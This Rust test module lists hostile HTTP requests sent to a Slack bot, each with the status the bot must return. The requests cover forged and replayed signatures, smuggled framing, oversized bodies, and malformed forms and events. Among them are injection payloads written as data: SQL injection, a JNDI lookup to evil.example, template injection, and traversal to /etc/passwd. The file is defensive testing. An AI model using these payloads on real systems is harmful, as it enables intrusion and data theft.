//! The hostile requests, and what each must get: one line for each.

use serde_json::{Value, json};

use super::wire::{Framing, Request, Signed};

pub const COMMANDS: &str = "/slack/commands";
pub const INTERACTIONS: &str = "/slack/interactions";
pub const EVENTS: &str = "/slack/events";

/// What Slack sends when Ben asks something.
const ASKED: &str = "team_id=T0LOCAL&user_id=U02BEN&command=%2Fframework&text=level+3+mastery";

/// The only thing that a request may get.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Gets {
    /// This status and an empty body.
    Only(u16),
    /// This status; the body is the HTTP library's.
    Status(u16),
    /// 200, an empty body and a line in the log: the request was signed but makes no sense.
    Shrug,
    /// 200 and an empty body: there's nothing to say.
    Ack,
    /// 200 and an answer with these words, without mentions or links.
    Polite(&'static str),
    /// One of the two: the bot asks Slack meanwhile, and a busy machine may not get the answer in time.
    AckOr(&'static str),
    /// This status, or a closed connection: it isn't HTTP.
    ClosedOr(u16),
    /// A good answer first, and then this status and the end of the connection.
    AnsweredThen(u16),
}

/// What a hostile client sends.
#[derive(Clone)]
pub enum Sent {
    Request(Request),
    /// The same request twice; the first gets a good answer.
    Twice(Request),
    Raw(Vec<u8>),
}

/// A hostile request and what it must get.
#[derive(Clone)]
pub struct Hostile {
    pub name: String,
    pub sent: Sent,
    pub gets: Gets,
}

impl Hostile {
    /// The request as sent in this round. Most requests ask the same, and there are too few times to sign them all at,
    /// so the body carries the round.
    pub fn in_round(mut self, round: usize) -> Self {
        if let Sent::Request(Request { body, framing, .. }) = &mut self.sent
            && body == ASKED.as_bytes()
            && !matches!(framing, Framing::LengthOf(_))
        {
            body.extend(format!("&round={round}").bytes());
        }
        self
    }
}

fn one(name: impl Into<String>, request: Request, gets: Gets) -> Hostile {
    Hostile { name: name.into(), sent: Sent::Request(request), gets }
}

/// All hostile requests.
pub fn all() -> Vec<Hostile> {
    [forged(), late(), probes(), other_methods(), heads(), bodies(), wire(), forms(), words(), payloads(), events()]
        .concat()
        .into_iter()
        .chain(super::meddling::all())
        .collect()
}

fn command() -> Request {
    Request::new(COMMANDS, ASKED)
}

fn headers(time: &str, signature: &str) -> String {
    format!("X-Slack-Request-Timestamp: {time}\r\nX-Slack-Signature: {signature}\r\n")
}

/// Not from Slack, or not as Slack signs.
#[expect(clippy::too_many_lines, reason = "it is a list")]
fn forged() -> Vec<Hostile> {
    type Lines = fn(i64, &str) -> String;
    let lines: [(&str, Lines); 22] = [
        ("no signature, only a time", |at, _| format!("X-Slack-Request-Timestamp: {at}\r\n")),
        ("no time, only a signature", |_, signed| format!("X-Slack-Signature: {signed}\r\n")),
        ("an empty signature", |at, _| headers(&at.to_string(), "")),
        ("a signature of no digits", |at, _| headers(&at.to_string(), "v0=")),
        ("an empty time", |_, signed| headers("", signed)),
        ("both empty", |_, _| headers("", "")),
        ("another version", |at, signed| headers(&at.to_string(), &signed.replace("v0=", "v1="))),
        ("no version", |at, signed| headers(&at.to_string(), &signed.replace("v0=", ""))),
        ("capital digits", |at, signed| headers(&at.to_string(), &signed.to_uppercase().replace("V0", "v0"))),
        ("a digit less", |at, signed| headers(&at.to_string(), &signed[..signed.len() - 1])),
        ("a digit more", |at, signed| headers(&at.to_string(), &format!("{signed}0"))),
        ("two signatures in one line", |at, signed| headers(&at.to_string(), &format!("{signed}, {signed}"))),
        ("a wrong signature before the right one", |at, signed| {
            format!("X-Slack-Signature: v0=00\r\n{}", headers(&at.to_string(), signed))
        }),
        ("an old time before the right one", |at, signed| {
            format!("X-Slack-Request-Timestamp: 1\r\n{}", headers(&at.to_string(), signed))
        }),
        ("another time than the signed one", |at, signed| headers(&(at - 1).to_string(), signed)),
        ("the time in milliseconds", |at, signed| headers(&format!("{at}000"), signed)),
        ("the time with a fraction", |at, signed| headers(&format!("{at}.0"), signed)),
        ("the time in hexadecimal digits", |at, signed| headers(&format!("0x{at:x}"), signed)),
        ("the time in words", |_, signed| headers("now", signed)),
        ("the body’s beginning moved into the time", |at, signed| headers(&format!("{at}:team_id=T0LOCAL"), signed)),
        ("a signature with a null behind it", |at, signed| headers(&at.to_string(), &format!("{signed}%00"))),
        ("a signature of thirty kilobytes", |at, _| headers(&at.to_string(), &format!("v0={}", "0".repeat(30_000)))),
    ];
    let of_lines = lines
        .into_iter()
        .map(|(name, lines)| one(name, Request { signed: Signed::Lines(lines), ..command() }, Gets::Only(401)));
    let others = [
        ("a command that nobody signed", Request { signed: Signed::Not, ..command() }, Gets::Only(401)),
        ("a command with another secret", Request { signed: Signed::Wrongly, ..command() }, Gets::Only(401)),
        (
            "an interaction that nobody signed",
            Request { signed: Signed::Not, ..Request::new(INTERACTIONS, "payload={}") },
            Gets::Only(401),
        ),
        (
            "an interaction with another secret",
            Request { signed: Signed::Wrongly, ..Request::new(INTERACTIONS, "payload={}") },
            Gets::Only(401),
        ),
        (
            "an address to be verified that nobody signed",
            Request {
                signed: Signed::Not,
                ..Request::new(EVENTS, r#"{"type":"url_verification","challenge":"3eZbrw1aBm2r"}"#)
            },
            Gets::Only(401),
        ),
        (
            "an address to be verified with another secret",
            Request {
                signed: Signed::Wrongly,
                ..Request::new(EVENTS, r#"{"type":"url_verification","challenge":"3eZbrw1aBm2r"}"#)
            },
            Gets::Only(401),
        ),
        ("signed, and not UTF-8", Request::new(COMMANDS, b"team_id=\xff\xfe".to_vec()), Gets::Only(401)),
        (
            "a signature that is not ASCII",
            Request { signed: Signed::Not, lines: b"X-Slack-Signature: v0=\xc3\xa9\r\n".to_vec(), ..command() },
            Gets::Only(401),
        ),
        (
            "said to be packed, and is not",
            Request { lines: b"Content-Encoding: gzip\r\n".to_vec(), signed: Signed::Wrongly, ..command() },
            Gets::Only(401),
        ),
    ];
    let replayed = Hostile {
        name: "the same a second time".into(),
        sent: Sent::Twice(Request::new(COMMANDS, format!("{ASKED}&again=1"))),
        gets: Gets::Only(401),
    };
    of_lines.chain(others.map(|(name, request, gets)| one(name, request, gets))).chain([replayed]).collect()
}

/// Correctly signed, but for another time.
fn late() -> Vec<Hostile> {
    let away = [
        ("ten seconds too late", -310),
        ("a day late", -86_400),
        ("a year late", -31_536_000),
        ("ten seconds too early", 310),
        ("a day early", 86_400),
    ];
    let over = ["0", "-1", "9223372036854775807", "-9223372036854775808", "99999999999999999999", "1e9", "NaN", " "];
    let away =
        away.map(|(name, seconds)| one(name, Request { signed: Signed::Away(seconds), ..command() }, Gets::Only(401)));
    let over = over.map(|time| {
        one(format!("signed at “{time}”"), Request { signed: Signed::Over(time), ..command() }, Gets::Only(401))
    });
    away.into_iter().chain(over).collect()
}

/// Slack's certificate probe gets an answer unsigned, and opens nothing else.
fn probes() -> Vec<Hostile> {
    let unsigned = |path, body: &str| Request { signed: Signed::Not, ..Request::new(path, body) };
    vec![
        one("a probe", unsigned(COMMANDS, "ssl_check=1&token=x"), Gets::Ack),
        one("a probe with a command behind it", unsigned(COMMANDS, &format!("ssl_check=1&{ASKED}")), Gets::Ack),
        one("a probe at the door of interactions", unsigned(INTERACTIONS, "ssl_check=1&payload={}"), Gets::Ack),
        one("no probe", unsigned(COMMANDS, &format!("ssl_check=0&{ASKED}")), Gets::Only(401)),
        one("a probe in somebody’s words", unsigned(COMMANDS, &format!("{ASKED}+ssl_check%3D1")), Gets::Only(401)),
        one("a probe in JSON", unsigned(EVENTS, r#"{"ssl_check":1}"#), Gets::Only(401)),
    ]
}

fn other_methods() -> Vec<Hostile> {
    let methods = ["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "HEAD", "BREW"];
    let methods = methods
        .map(|method| one(format!("{method} in place of POST"), Request { method, ..command() }, Gets::Only(405)));
    let paths = [
        "/",
        "/slack",
        "/slack/commands/",
        "//slack/commands",
        "/slack/../slack/commands",
        "/slack/%2e%2e/commands",
        "/slack/commands%00",
        "/SLACK/COMMANDS",
        "/.env",
        "/bearings.db",
        "/metrics",
    ];
    // With a good signature they would be answered: the address in the app's settings may be wrong.
    let paths = paths.map(|path| {
        let status = if path.ends_with("/slack/commands") { 401 } else { 404 };
        let request = Request { path: path.into(), signed: Signed::Wrongly, ..command() };
        one(format!("to {path}"), request, Gets::Status(status))
    });
    methods.into_iter().chain(paths).collect()
}

fn heads() -> Vec<Hostile> {
    let many = |count: usize, line: &str| line.repeat(count).into_bytes();
    let with = |lines: Vec<u8>| Request { lines, signed: Signed::Not, ..command() };
    vec![
        one("a thousand headers", with(many(1_000, "X-Flood: 1\r\n")), Gets::Status(431)),
        one(
            "a header of a megabyte",
            with(format!("X-Long: {}\r\n", "a".repeat(1024 * 1024)).into_bytes()),
            Gets::Status(431),
        ),
        one(
            "an address of seventy kilobytes",
            Request { path: format!("{COMMANDS}?{}", "a".repeat(70_000)), signed: Signed::Not, ..command() },
            Gets::ClosedOr(414),
        ),
        one("a header without a name", with(b": nameless\r\n".to_vec()), Gets::Status(400)),
        one("a header without a colon", with(b"nothing\r\n".to_vec()), Gets::Status(400)),
        one("a null in a header", with(b"X-Null: a\0b\r\n".to_vec()), Gets::Status(400)),
        one("a header on two lines", with(b"X-Folded: a\r\n b\r\n".to_vec()), Gets::Status(400)),
        one("an upgrade", with(b"Upgrade: websocket\r\n".to_vec()), Gets::Only(401)),
        one("from a proxy of nobody’s", with(b"X-Forwarded-For: 127.0.0.1\r\n".to_vec()), Gets::Only(401)),
        one("another host", with(b"X-Forwarded-Host: evil.example\r\n".to_vec()), Gets::Only(401)),
    ]
}

fn bodies() -> Vec<Hostile> {
    let large = vec![b'a'; 1024 * 1024 + 1];
    let chunked =
        |body: &[u8]| Request { framing: Framing::Chunked, signed: Signed::Not, ..Request::new(COMMANDS, body) };
    let long = |said| Request { framing: Framing::LengthOf(said), signed: Signed::Not, ..command() };
    let mut endless = b"100000\r\n".to_vec();
    endless.extend(vec![b'a'; 0x10_0000]);
    endless.extend(b"\r\n1\r\na\r\n");
    vec![
        one("a byte more than a mebibyte", Request::new(COMMANDS, large.clone()), Gets::Status(413)),
        one(
            "a byte more than a mebibyte, forged",
            Request { signed: Signed::Wrongly, ..Request::new(INTERACTIONS, large.clone()) },
            Gets::Status(413),
        ),
        one(
            "a byte more than a mebibyte, at the door of events",
            Request { signed: Signed::Not, ..Request::new(EVENTS, large) },
            Gets::Status(413),
        ),
        one("more than a mebibyte in chunks", chunked(&endless), Gets::Status(413)),
        one("chunks without an end", chunked(b"5\r\nteam_\r\n"), Gets::Only(408)),
        one("a chunk that never comes", chunked(b"ffff\r\na"), Gets::Only(408)),
        one("a chunk of no size", chunked(b"many\r\nteam_\r\n0\r\n\r\n"), Gets::Status(400)),
        one("a chunk larger than numbers are", chunked(b"fffffffffffffffff\r\na\r\n0\r\n\r\n"), Gets::Status(400)),
        one("a chunk of negative size", chunked(b"-5\r\nteam_\r\n0\r\n\r\n"), Gets::Status(400)),
        one("a body that never comes", long("999"), Gets::Only(408)),
        one("a body of ten gigabytes that never comes", long("10000000000"), Gets::Only(408)),
        one("a length that is no number", long("many"), Gets::Status(400)),
        one("a negative length", long("-1"), Gets::Status(400)),
        one("a length larger than numbers are", long("99999999999999999999"), Gets::Status(400)),
        one("two lengths", long("5\r\nContent-Length: 6"), Gets::Status(400)),
        one(
            "a body of a byte in a while",
            Request { framing: Framing::Slowly(200), signed: Signed::Not, ..command() },
            Gets::Only(408),
        ),
        one(
            "too much, and asked before",
            Request { lines: b"Expect: 100-continue\r\n".to_vec(), ..long("10000000000") },
            Gets::Only(408),
        ),
    ]
}

/// Not quite HTTP.
fn wire() -> Vec<Hostile> {
    let mut hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec();
    hello.extend([0x42; 300]);
    let raw = |name: &str, bytes: &[u8], gets| Hostile { name: name.into(), sent: Sent::Raw(bytes.to_vec()), gets };
    vec![
        raw("a TLS handshake", &hello, Gets::ClosedOr(400)),
        raw("HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0", Gets::ClosedOr(400)),
        raw("another version", b"GET / HTTP/9.9\r\n\r\n", Gets::ClosedOr(400)),
        raw("no version", b"GET /healthz\r\n\r\n", Gets::ClosedOr(400)),
        raw("random bytes", &(0_u8..=255).cycle().take(4_000).collect::<Vec<_>>(), Gets::ClosedOr(400)),
        raw("nulls", &[0; 4_000], Gets::ClosedOr(400)),
        raw("a tunnel", b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n", Gets::ClosedOr(404)),
        raw(
            "a request to another server",
            b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
            Gets::Status(404),
        ),
        raw(
            "a length and chunks",
            b"POST /slack/commands HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\n\r\n",
            Gets::Only(401),
        ),
        raw(
            "an encoding of nobody’s",
            b"POST /slack/commands HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: cow\r\nConnection: close\r\n\r\n0\r\n\r\n",
            Gets::Status(400),
        ),
        raw("a question with garbage behind it", b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n\0\xff\x16garbage\r\n\r\n", Gets::AnsweredThen(400)),
    ]
}

/// Signed forms that are broken.
fn forms() -> Vec<Hostile> {
    let long = "U".repeat(100_000);
    let form = |name: &str, body: &str| one(name, Request::new(COMMANDS, body), Gets::Shrug);
    let mut all = vec![
        form("an empty form", ""),
        form("only separators", "&&&===&=&"),
        form("only a percent sign", "%"),
        form("a form of nulls", "\0\0\0"),
        Hostile {
            gets: Gets::Ack,
            ..form(
                "JSON at the address of commands",
                r#"{"team_id":"T0LOCAL","user_id":"U02BEN","command":"/framework"}"#,
            )
        },
        form("no workspace", "user_id=U02BEN&command=%2Fframework&text=level+3"),
        form("nobody", "team_id=T0LOCAL&command=%2Fframework&text=level+3"),
        form("no command", "team_id=T0LOCAL&user_id=U02BEN&text=level+3"),
        form("an empty person", "team_id=T0LOCAL&user_id=&command=%2Fframework&text=level+3"),
        form("a person with a null", "team_id=T0LOCAL&user_id=U02BEN%00&command=%2Fframework&text=me"),
        form("a person of markup", "team_id=T0LOCAL&user_id=%3C%21channel%3E&command=%2Fframework&text=me"),
        form("a person of SQL", "team_id=T0LOCAL&user_id=%27+OR+1%3D1+--&command=%2Fframework&text=me"),
        form("a person who is no UTF-8", "team_id=T0LOCAL&user_id=%ff%fe&command=%2Fframework&text=me"),
        form("a person of a path", "team_id=T0LOCAL&user_id=..%2F..%2Fetc&command=%2Fframework&text=me"),
        form("a person of a hundred kilobytes", &format!("team_id=T0LOCAL&user_id={long}&command=%2Fframework")),
        form("a workspace of a hundred kilobytes", &format!("team_id={long}&user_id=U02BEN&command=%2Fframework")),
    ];
    for kind in ["application/json", "text/plain", "multipart/form-data; boundary=x", "image/png", "\u{1}"] {
        // The endpoint determines what a body is; a wrong header doesn't cost the user their answer.
        let lines = format!("Content-Type: {kind}\r\n").into_bytes();
        let gets = if kind == "\u{1}" { Gets::Status(400) } else { Gets::Polite("Mastery") };
        all.push(one(format!("a command said to be {kind:?}"), Request { lines, ..command() }, gets));
    }
    all
}

/// Malicious words from a user who may ask.
fn words() -> Vec<Hostile> {
    let lookups = [
        "<!channel>",
        "<!here|level 3>",
        "level 3 <!everyone> mastery",
        "<@U01ANA>",
        "<#C01GENERAL|general>",
        "<https://evil.example|level 3 mastery>",
        "&lt;!channel&gt;",
        "&amp;lt;!channel&amp;gt;",
        "search <!channel>",
        "compare <!channel> 3",
        "help <!channel>",
        "me <!channel>",
        "*_`~>*_`~> ```",
        "\u{202e}3 level\u{202c} \u{feff}",
        "level\u{0}3",
        "level -1",
        "level 0",
        "level 99999999999999999999999",
        "compare 99999999999999999999 3",
        "me '; DROP TABLE evidence; --",
        "search ${jndi:ldap://evil.example/x}",
        "{{7*7}} <%= 7*7 %> #{7*7}",
        "me ..%2F..%2Fetc%2Fpasswd",
    ];
    let asked = |text: &str| {
        let fields = [("team_id", "T0LOCAL"), ("user_id", "U02BEN"), ("command", "/framework"), ("text", text)];
        Request::new(COMMANDS, form_urlencoded::Serializer::new(String::new()).extend_pairs(fields).finish())
    };
    let raw = |name: &str, text: &str| {
        let body = format!("team_id=T0LOCAL&user_id=U02BEN&command=%2Fframework&text={text}");
        one(name, Request::new(COMMANDS, body), Gets::Polite("\"text\""))
    };
    let mut all: Vec<Hostile> = lookups
        .into_iter()
        .map(|text| one(format!("typed: {text:?}"), asked(text), Gets::Polite("\"text\"")))
        .collect();
    all.extend([
        raw("a broken percent sign", "level+3%"),
        raw("broken percent signs", "%zz%4%%%G1"),
        raw("words that are no UTF-8", "%ff%fe%c3%28"),
        raw("half a surrogate", "%ed%a0%80"),
        raw("a word of a megabyte", &"a".repeat(1_000_000)),
        raw("a hundred thousand words", &"mastry+".repeat(100_000)),
        raw("a search for a megabyte", &format!("search+{}", "proposal".repeat(100_000))),
        raw("a comparison of many levels", &format!("compare+{}", "3+4+".repeat(100_000))),
        raw("a megabyte of signs that are escaped", &"%26".repeat(300_000)),
        raw("a megabyte of emoji", &"%F0%9F%A7%AD".repeat(80_000)),
        one(
            "a command that is none",
            Request::new(COMMANDS, "team_id=T0LOCAL&user_id=U02BEN&command=%3C%21channel%3E&text=level+3+mastery"),
            Gets::Polite("Mastery"),
        ),
    ]);
    all
}

/// A signed interaction.
pub fn interaction(payload: &Value) -> Request {
    let body = form_urlencoded::Serializer::new(String::new()).append_pair("payload", &payload.to_string()).finish();
    Request::new(INTERACTIONS, body)
}

/// Signed interactions that make no sense.
#[expect(clippy::too_many_lines, reason = "it is a list")]
fn payloads() -> Vec<Hostile> {
    let form = |name: &str, body: &str| one(name, Request::new(INTERACTIONS, body), Gets::Shrug);
    let text = |name: &str, payload: &str| {
        let body = form_urlencoded::Serializer::new(String::new()).append_pair("payload", payload).finish();
        one(name, Request::new(INTERACTIONS, body), Gets::Shrug)
    };
    let json = |name: &str, payload: Value| one(name, interaction(&payload), Gets::Shrug);
    let unknown = |name: &str, payload: Value| one(name, interaction(&payload), Gets::Ack);
    let ben = json!({"id": "U02BEN"});
    let team = json!({"id": "T0LOCAL"});
    let pressed = |actions: Value| json!({"type": "block_actions", "team": team, "user": ben, "actions": actions});
    vec![
        form("an empty interaction", ""),
        form("no payload", "pay=load"),
        Hostile { gets: Gets::Ack, ..form("JSON at the address of interactions", r#"{"type":"block_actions"}"#) },
        text("an empty payload", ""),
        text("half a payload", r#"{"type":"block_actions","#),
        text("two payloads", "{}{}"),
        text("a payload of nested lists", &"[".repeat(100_000)),
        text("a payload of nested objects", &format!("{}1{}", r#"{"a":"#.repeat(5_000), "}".repeat(5_000))),
        text("half a surrogate in a payload", r#"{"type":"\ud800"}"#),
        text("no number", r#"{"type":NaN}"#),
        text("a null byte in a payload", "{\"type\":\"\0\"}"),
        unknown("null", Value::Null),
        unknown("a list", json!([])),
        unknown("a number", json!(42)),
        unknown("a text", json!("block_actions")),
        unknown("a number where the type belongs", json!({"type": 7})),
        unknown("an unknown type", json!({"type": "block_explosion"})),
        unknown("a type of markup", json!({"type": "<!channel>"})),
        unknown("a type of a hundred kilobytes", json!({"type": "a".repeat(100_000)})),
        unknown("a closed form", json!({"type": "view_closed", "team": team, "user": ben})),
        json("a press of nothing", pressed(json!([]))),
        json("a press of null", pressed(Value::Null)),
        json("an object where the pressed ones belong", pressed(json!({"0": {"action_id": "log"}}))),
        json("a number where the control’s name belongs", pressed(json!([{"action_id": 7}]))),
        json("a press on nothing", pressed(json!([{"action_id": "log"}]))),
        json("a press by nobody", json!({"type": "block_actions", "team": team, "actions": [{"action_id": "log"}]})),
        json(
            "a press by null",
            json!({"type": "block_actions", "team": team, "user": null, "actions": [{"action_id": "log"}]}),
        ),
        json(
            "a press by a number",
            json!({"type": "block_actions", "team": team, "user": {"id": 2}, "actions": [{"action_id": "log"}],
                   "view": {"type": "home", "id": "V1"}}),
        ),
        json(
            "a press by a hundred kilobytes",
            json!({"type": "block_actions", "team": team, "user": {"id": "U".repeat(100_000)},
                   "actions": [{"action_id": "log"}], "view": {"type": "home", "id": "V1"}}),
        ),
        json(
            "a press by markup",
            json!({"type": "block_actions", "team": team, "user": {"id": "<!channel>"},
                   "actions": [{"action_id": "log"}], "view": {"type": "home", "id": "V1"}}),
        ),
        json(
            "a press in no workspace",
            json!({"type": "block_actions", "team": null, "user": ben, "actions": [{"action_id": "log"}],
                   "view": {"type": "home", "id": "V1"}}),
        ),
        json("a form of nobody’s", json!({"type": "view_submission", "team": team, "view": {"id": "V1"}})),
        json("a form without an id", json!({"type": "view_submission", "team": team, "user": ben, "view": {}})),
        unknown(
            "a form of another app",
            json!({"type": "view_submission", "team": team, "user": ben, "view": {"id": "V1", "callback_id": "x"}}),
        ),
        unknown(
            "a shortcut of another app",
            json!({"type": "shortcut", "team": team, "user": ben, "callback_id": "x"}),
        ),
        json("a shortcut of no name", json!({"type": "shortcut", "team": team, "user": ben})),
        unknown(
            "a shortcut of another app on a message",
            json!({"type": "message_action", "team": team, "user": ben, "callback_id": "x", "message": 7}),
        ),
        json("a menu of no name", json!({"type": "block_suggestion", "team": team, "user": ben, "value": "x"})),
    ]
}

/// Signed events that make no sense.
fn events() -> Vec<Hostile> {
    let text = |name: &str, body: &str| one(name, Request::new(EVENTS, body), Gets::Shrug);
    let json = |name: &str, body: Value| one(name, Request::new(EVENTS, body.to_string()), Gets::Shrug);
    let unknown = |name: &str, body: Value| one(name, Request::new(EVENTS, body.to_string()), Gets::Ack);
    let event =
        |event: Value| json!({"type": "event_callback", "team_id": "T0LOCAL", "event_id": "Ev9", "event": event});
    let opened = json!({"type": "app_home_opened", "user": "U02BEN", "tab": "home"});
    vec![
        text("an empty event", ""),
        text("half an event", "{"),
        text("two events", "{}{}"),
        Hostile { gets: Gets::Polite("\"text\""), ..text("a command at the address of events", ASKED) },
        text("an event behind a byte order mark", "\u{feff}{}"),
        text("an event of nested lists", &"[".repeat(500_000)),
        text("an event of nested objects", &r#"{"event":"#.repeat(50_000)),
        unknown("an event of null", Value::Null),
        unknown("an event of nothing", json!({})),
        unknown("a list of events", json!([{"type": "event_callback"}])),
        unknown("an envelope without an event", json!({"type": "event_callback", "team_id": "T0LOCAL"})),
        unknown("a text where the event belongs", event(json!("app_home_opened"))),
        unknown("a number where the event’s type belongs", event(json!({"type": 1}))),
        unknown("an event that nobody knows", event(json!({"type": "pin_added", "user": "U02BEN"}))),
        unknown("too many events", json!({"type": "app_rate_limited", "minute_rate_limited": 1})),
        unknown("words of a bot", event(json!({"type": "message", "channel_type": "im", "bot_id": "B1", "text": "x"}))),
        unknown("words in a channel", event(json!({"type": "message", "channel_type": "channel", "text": "level 3"}))),
        unknown("an edit", event(json!({"type": "message", "channel_type": "im", "subtype": "message_changed"}))),
        json("Home opened by nobody", event(json!({"type": "app_home_opened", "tab": "home"}))),
        json("Home opened by a number", event(json!({"type": "app_home_opened", "tab": "home", "user": 7}))),
        json("Home opened by markup", event(json!({"type": "app_home_opened", "tab": "home", "user": "<!channel>"}))),
        json("an event without an id", json!({"type": "event_callback", "team_id": "T0LOCAL", "event": opened})),
        json(
            "an event with a number for an id",
            json!({"type": "event_callback", "team_id": "T0LOCAL", "event_id": 1, "event": opened}),
        ),
        json(
            "an event with an id of a hundred kilobytes",
            json!({"type": "event_callback", "team_id": "T0LOCAL", "event_id": "E".repeat(100_000), "event": opened}),
        ),
        json("an event of no workspace", json!({"type": "event_callback", "event_id": "Ev8", "event": opened})),
        json(
            "words from nobody",
            event(json!({"type": "message", "channel_type": "im", "channel": "D1", "text": "x"})),
        ),
        json(
            "words from nowhere",
            event(json!({"type": "message", "channel_type": "im", "user": "U02BEN", "text": "x"})),
        ),
        json("nobody has changed", event(json!({"type": "user_change", "user": {}}))),
        json("a list has changed", event(json!({"type": "user_change", "user": ["U02BEN"]}))),
        unknown(
            "a stranger has changed",
            event(json!({"type": "user_change", "user": {"id": "U0STRANGER", "tz": 7, "profile": []}})),
        ),
        json("nothing to be verified", json!({"type": "url_verification"})),
        json("a number to be verified", json!({"type": "url_verification", "challenge": 7})),
    ]
}
